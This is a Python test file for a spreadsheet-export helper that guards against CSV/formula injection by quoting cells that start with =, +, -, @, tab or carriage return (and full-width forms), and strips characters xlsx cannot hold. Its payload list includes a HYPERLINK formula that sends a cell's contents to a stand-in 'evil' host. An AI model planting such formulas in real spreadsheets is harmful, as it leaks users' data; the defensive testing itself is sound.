"""ipfin.common.excel: text a spreadsheet would run as a formula is written as quoted text
(OWASP CSV Injection); numbers, dates and empty cells are written unchanged."""

from __future__ import annotations

import io
from datetime import date, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from ipfin.common.excel import FORMULA_TRIGGERS, append_row, safe_text, writable

PAYLOADS = ['=HYPERLINK("http://evil?"&B2,"click")', "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
# The same typed on a Chinese input method: full width.
FULL_WIDTH = ['＝HYPERLINK("http://evil?"&B2,"详情")', "＋1+1", "－1+1", "＠SUM(A1)"]


def as_read(text: str) -> str:
    """`text` as a reader of the .xlsx sees it: XML end-of-line handling (XML 1.0 §2.11) turns a
    carriage return written into the sheet's XML into a line feed when the file is parsed."""
    return text.replace("\r", "\n")


def test_formula_triggers_are_the_owasp_six_and_their_full_width_forms() -> None:
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"}


@pytest.mark.parametrize("text", PAYLOADS + FULL_WIDTH)
def test_safe_text_prefixes_each_formula_trigger_with_a_quote(text: str) -> None:
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize("text", ["甲银行", "", "A=1", " =1", "'=1", "1-2", "#N/A", "甲＝乙"])
def test_safe_text_leaves_other_strings_unchanged(text: str) -> None:
    assert safe_text(text) == text


@pytest.mark.parametrize(
    "value",
    [Decimal("-2.00"), Decimal("250000.00"), -2, 0, -1.5, date(2025, 1, 2), None, True],
)
def test_safe_text_leaves_numbers_dates_and_none_unchanged(value: object) -> None:
    assert safe_text(value) is value


@given(st.sampled_from(FORMULA_TRIGGERS), st.text())
def test_property_text_starting_with_a_trigger_comes_out_quoted(first: str, rest: str) -> None:
    text = first + rest
    assert safe_text(text) == "'" + text


@given(st.text().filter(lambda s: not s.startswith(FORMULA_TRIGGERS)))
def test_property_other_text_comes_out_unchanged(text: str) -> None:
    assert safe_text(text) == text


@given(
    st.one_of(
        st.none(),
        st.booleans(),
        st.integers(),
        st.floats(allow_nan=False),
        st.decimals(allow_nan=False, allow_infinity=False),
        st.dates(),
        st.datetimes(),
    )
)
def test_property_values_that_are_not_text_come_out_unchanged(value: object) -> None:
    assert safe_text(value) is value


def _round_trip(rows: list[list[object]]) -> Worksheet:
    wb = Workbook()
    ws = wb.active
    assert isinstance(ws, Worksheet)
    for row in rows:
        append_row(ws, row)
    buffer = io.BytesIO()
    wb.save(buffer)
    loaded = load_workbook(buffer).active
    assert isinstance(loaded, Worksheet)
    return loaded


def test_append_row_writes_formula_like_text_as_quoted_string_cells() -> None:
    ws = _round_trip([["名称", "金额"], *[[text, Decimal("-2.50")] for text in PAYLOADS]])
    for n, text in enumerate(PAYLOADS, 2):
        cell = ws.cell(row=n, column=1)
        assert (cell.value, cell.data_type) == (as_read("'" + text), "s")
        amount = ws.cell(row=n, column=2)
        assert (amount.value, amount.data_type) == (-2.5, "n")


def test_append_row_stores_error_looking_text_as_a_string_not_an_error_value() -> None:
    # openpyxl alone would store "#N/A" as an error cell; it is a string like any other text.
    cell = _round_trip([["#N/A", "甲银行"]]).cell(row=1, column=1)
    assert (cell.value, cell.data_type) == ("#N/A", "s")


def test_append_row_keeps_dates_numbers_and_empty_cells() -> None:
    ws = _round_trip([[datetime(2025, 1, 2, 9, 30), -3, None, "普通文本"]])
    assert [c.value for c in ws[1]] == [datetime(2025, 1, 2, 9, 30), -3, None, "普通文本"]
    assert [c.data_type for c in ws[1]][:2] == ["d", "n"]


def test_append_row_of_no_values_writes_nothing() -> None:
    wb = Workbook()
    ws = wb.active
    assert isinstance(ws, Worksheet)
    append_row(ws, [])
    assert ws.max_row == 1 and ws.cell(row=1, column=1).value is None


def test_control_characters_an_xlsx_cannot_hold_are_dropped_before_the_formula_check() -> None:
    """A tranche named "â\x14" failed the securitisation report's export with a 500 (API
    fuzzing): openpyxl refuses such characters. They are dropped; a formula behind one is still
    quoted; tab, line feed and carriage return stay."""
    assert writable("â\x14") == "â"
    assert writable("\x00=HYPERLINK(1)") == "'=HYPERLINK(1)"
    assert writable("a\tb\nc") == "a\tb\nc"
    assert writable(Decimal("1.00")) == Decimal("1.00")
    wb = Workbook()
    ws = wb.active
    assert isinstance(ws, Worksheet)
    append_row(ws, ["优先\x01A", "\x1b+1", 5])
    buffer = io.BytesIO()
    wb.save(buffer)
    row = next(load_workbook(buffer).active.iter_rows(values_only=True))  # type: ignore[union-attr]
    assert row == ("优先A", "'+1", 5)


@given(st.text())
def test_property_what_is_written_holds_no_illegal_character_and_never_starts_a_formula(
    text: str,
) -> None:
    written = writable(text)
    assert isinstance(written, str)
    assert not any(ord(c) < 0x20 and c not in "\t\n\r" for c in written)
    assert not written.startswith(FORMULA_TRIGGERS)
